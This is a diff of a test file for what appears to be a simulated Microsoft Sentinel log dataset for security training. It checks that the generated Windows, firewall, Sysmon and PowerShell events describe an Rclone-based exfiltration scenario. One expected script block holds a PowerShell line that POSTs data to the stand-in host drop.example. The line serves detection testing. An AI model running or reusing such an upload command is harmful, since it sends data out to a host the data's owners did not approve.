@@ -50,7 +50,7 @@ describe('rows of Sentinel', () => {
       NewProcessId: expect.stringMatching(/^0x[0-9a-f]+$/),
       ProcessId: fieldsOf('SecurityEvent', '4688')['NewProcessId'],
       TargetAccount: '-\\-',
-      TokenElevationType: '%%1936',
+      TokenElevationType: '%%1938',
       MandatoryLabel: 'S-1-16-8192',
       Computer: 'WS-LAB-01.corp.example',
       Channel: 'Security',
@@ -61,7 +61,7 @@ describe('rows of Sentinel', () => {
     const end = fieldsOf('SecurityEvent', '4689')
     expect(end).toMatchObject({ Status: '0x1', Process: 'Rclone.exe' })
     expect(end['EventData']).toContain('<Data Name="Status">0x1</Data>')
-    const connection = fieldsOf('SecurityEvent', '5156')
+    const connection = fieldsOf('SecurityEvent', '5156', 1)
     expect(connection['Activity']).toBe('5156 - The Windows Filtering Platform has allowed a connection.')
     expect(connection['EventData']).toContain(
       '<Data Name="Application">\\device\\harddiskvolume3\\users\\public\\rclone.exe</Data>',
@@ -73,7 +73,7 @@ describe('rows of Sentinel', () => {
   test('of the firewall have what was sent when the session ends, and nothing of loopback', () => {
     const sessions = windows.filter(({ stream }) => stream === 'CommonSecurityLog')
     const start = Date.UTC(2026, 2, 2, 9, 14, 6)
-    expect(sessions[0]).toMatchObject({
+    expect(sessions.find(({ fields }) => fields['DestinationPort'] === 22)).toMatchObject({
       event: 'TRAFFIC',
       time: start + 60_000,
       fields: {
@@ -91,6 +91,23 @@ describe('rows of Sentinel', () => {
     const addresses = sessions.map(({ fields }) => `${fields['SourceIP']} ${fields['DestinationIP']}`)
     expect(addresses.filter((pair) => pair.includes('127.'))).toEqual([])
     expect(addresses).toContain('10.20.3.99 10.20.3.17')
+  })
+
+  test('of other logs hold the data as XML, and the message', () => {
+    const started = fieldsOf('Event', '1', 1)
+    expect(started).toMatchObject({
+      Source: 'Microsoft-Windows-Sysmon',
+      EventLog: 'Microsoft-Windows-Sysmon/Operational',
+      EventLevelName: 'Information',
+      UserName: 'NT AUTHORITY\\SYSTEM',
+      RenderedDescription: expect.stringContaining('Process Create:\r\nRuleName: -\r\n'),
+    })
+    expect(started['EventData']).toMatch(/^<DataItem type="System\.XmlData" .*<\/EventData><\/DataItem>$/)
+    expect(started['EventData']).toContain('<Data Name="Image">C:\\Users\\Public\\Rclone.exe</Data>')
+    const script = fieldsOf('Event', '4104')
+    expect(script).toMatchObject({ Source: 'Microsoft-Windows-PowerShell', UserName: 'CORP\\J.Doe' })
+    expect(script['EventData']).toContain('$x = "&lt;&amp;&gt;"</Data>')
+    expect(script['RenderedDescription']).toContain('Creating Scriptblock text (1 of 1):\r\nInvoke-WebRequest')
   })
 
   test('of Linux hosts hold the lines of auoms and of Sysmon', () => {
@@ -125,6 +142,13 @@ describe('rows of Sentinel', () => {
         NewProcessName: 'C:\\Users\\Public\\Rclone.exe',
       },
     ])
+    const scripts = await rowsOf(
+      session,
+      'kql',
+      `Event | where EventID == 4104 | extend Data = parse_xml(EventData).DataItem.EventData.Data
+      | mv-expand Data | where tostring(Data["@Name"]) == "ScriptBlockText" | project Text = tostring(Data["#text"])`,
+    )
+    expect(scripts).toEqual([{ Text: 'Invoke-WebRequest -Uri http://drop.example/in -Method POST\n$x = "<&>"' }])
     const lines = await rowsOf(
       session,
       'kql',
